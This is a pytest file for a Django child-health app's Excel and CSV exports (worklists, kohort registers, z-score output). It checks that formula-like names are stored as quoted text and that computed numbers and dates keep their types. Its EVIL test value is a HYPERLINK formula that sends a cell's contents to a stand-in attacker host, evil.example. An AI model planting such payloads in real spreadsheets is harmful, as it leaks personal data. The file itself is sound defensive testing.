"""Excel formula injection: a name like =HYPERLINK("http://…"&C4,"Klik") stays text in every
export (work list and kohort Excel pages, `ilp worklist` CSV and Excel, `ilp zscore` CSV).
Each workbook is opened with openpyxl: no formula cell anywhere, the exact text kept, and
the numbers and dates the export computed still numbers and dates."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from ilp.core.spreadsheets import csv_value, write_cell

EVIL = '=HYPERLINK("http://evil.example/?d="&C4,"Klik")'
EVIL_NAMES = [EVIL, "+62 812 3456", "-1+1", "@SUM(A1:A9)", "\t=1+1"]


def _cells(ws):
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def _no_formula(ws) -> None:
    formulas = [(c.coordinate, c.value) for c in _cells(ws) if c.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize("text", EVIL_NAMES)
def test_text_that_looks_like_a_formula_is_stored_as_text(text):
    wb = Workbook()
    write_cell(wb.active, 1, 1, text)
    buffer = BytesIO()
    wb.save(buffer)
    cell = load_workbook(BytesIO(buffer.getvalue())).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_computed_numbers_and_dates_stay_numbers_and_dates():
    wb = Workbook()
    ws = wb.active
    aware = datetime(2025, 3, 10, 1, 30, tzinfo=UTC)
    for column, value in enumerate(
        [7, 8.8, Decimal("-2.10"), date(2025, 3, 10), aware, True, "Siti"], 1
    ):
        write_cell(ws, 1, column, value)
    buffer = BytesIO()
    wb.save(buffer)
    row = next(load_workbook(BytesIO(buffer.getvalue())).active.iter_rows())
    assert [c.data_type for c in row] == ["n", "n", "n", "d", "d", "b", "s"]
    assert row[3].value.isoformat() == "2025-03-10T00:00:00"
    assert row[4].value.isoformat() == "2025-03-10T09:30:00"  # WITA, the district's time
    assert row[6].quotePrefix is False  # plain text is left alone


def test_characters_xml_cannot_carry_do_not_break_the_file():
    wb = Workbook()
    write_cell(wb.active, 1, 1, "Ani\x00 Kurus\x0b")
    wb.save(BytesIO())
    assert wb.active["A1"].value == "Ani Kurus"


@pytest.mark.parametrize(
    "value, written",
    [
        (EVIL, "'" + EVIL),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-1+1", "'-1+1"),
        ("Siti Aminah", "Siti Aminah"),
        (-2.5, -2.5),  # a computed number is not text
        (date(2025, 3, 10), "2025-03-10"),
        (None, ""),
    ],
)
def test_csv_defuses_text_only(value, written):
    assert csv_value(value) == written


# ---------------------------------------------------------------- every export


@pytest.fixture
def evil(district, settings):
    """A baby (due for immunisation and weighing), her mother and a toddler (kohort balita)
    with formula-like names."""
    settings.ROOT_URLCONF = "tests.care.urls_for_tests"
    from tests.conftest import _person

    today = timezone.localdate()
    mother = _person("@SUM(A1:A9)", "F", date(1995, 5, 1), district.rt_ampel_timur)
    baby = _person(EVIL, "F", today - timedelta(days=100), district.rt_ampel_timur)
    baby.mother = mother
    baby.save(update_fields=["mother"])
    _person(EVIL, "M", today - timedelta(days=400), district.rt_ampel_timur)
    return baby


def _workbook(content: bytes):
    return load_workbook(BytesIO(content)).active


def _find(ws, text: str):
    return [c for c in _cells(ws) if c.value == text]


def test_the_worklist_excel_keeps_names_as_text(district, client_for, evil):
    response = client_for(district.kader_ampel_timur).get("/layanan/kerja/POS-AT/excel/")
    assert response.status_code == 200
    ws = _workbook(response.content)
    _no_formula(ws)
    names = _find(ws, EVIL)
    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)
    # The dates the export computed are still dates.
    assert any(c.is_date for c in _cells(ws))


@pytest.mark.parametrize("register", ["bayi", "balita"])
def test_the_kohort_excel_keeps_names_as_text(district, client_for, evil, register):
    url = f"/layanan/kerja/POS-AT/kohort/{register}/excel/"
    ws = _workbook(client_for(district.bidan_ampel).get(url).content)
    _no_formula(ws)
    assert _find(ws, EVIL)
    if register == "bayi":
        assert _find(ws, "@SUM(A1:A9)")  # the mother's name column
    numbers = [c for c in _cells(ws) if c.data_type == "n"]
    assert numbers  # the row number and the computed values


def test_the_worklist_command_defuses_csv_and_excel(district, evil, tmp_path):
    out = StringIO()
    call_command("worklist", "--posyandu", "POS-AT", "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    evil_rows = [r for r in rows if r["name"] == "'" + EVIL]
    assert evil_rows
    assert not [r for r in rows if r["name"].startswith("=")]
    assert evil.birth_date.isoformat() in {r["birth_date"] for r in evil_rows}

    target = tmp_path / "daftar.xlsx"
    call_command(
        "worklist",
        "--posyandu",
        "POS-AT",
        "--format",
        "xlsx",
        "--out",
        str(target),
        stdout=StringIO(),
        stderr=StringIO(),
    )
    ws = load_workbook(target).active
    _no_formula(ws)
    assert _find(ws, EVIL)


def test_the_zscore_csv_echoes_input_cells_defused(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(
        f'name,sex,age_days,weight,length\n"{EVIL.replace(chr(34), chr(34) * 2)}",F,100,5.5,60\n',
        encoding="utf-8",
    )
    target = tmp_path / "out.csv"
    call_command("zscore", "--csv", str(source), "--out", str(target), stderr=io.StringIO())
    (row,) = csv.DictReader(target.open(encoding="utf-8"))
    assert row["name"] == "'" + EVIL
    float(row["z_wfa"])  # computed by the export: a number, not defused text
